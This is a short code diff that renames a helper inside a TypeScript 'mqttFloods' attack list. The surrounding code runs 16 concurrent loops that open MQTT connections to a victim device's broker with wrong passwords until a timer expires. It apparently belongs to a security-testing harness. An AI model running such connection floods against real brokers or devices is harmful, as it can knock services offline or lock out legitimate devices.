@@ -102,7 +102,7 @@ export const mqttFloods: Attack[] = [
     run: async ({ mqttUrl, victim }, { seconds }) => {
       const tally = new Tally();
       const untilMs = endOf(seconds);
-      const one = async (number: number): Promise<void> => {
+      const attempt = async (number: number): Promise<void> => {
         while (performance.now() < untilMs) {
           const username = `${victim.productKey}&${victim.deviceId}`;
           const options = { username, password: `wrong-${number}`, clientId: `x${number}`, reconnectPeriod: 0 };
@@ -115,7 +115,7 @@ export const mqttFloods: Attack[] = [
           }
         }
       };
-      await Promise.all(Array.from({ length: 16 }, (_, number) => one(number)));
+      await Promise.all(Array.from({ length: 16 }, (_, number) => attempt(number)));
       return tally.result();
     },
   },
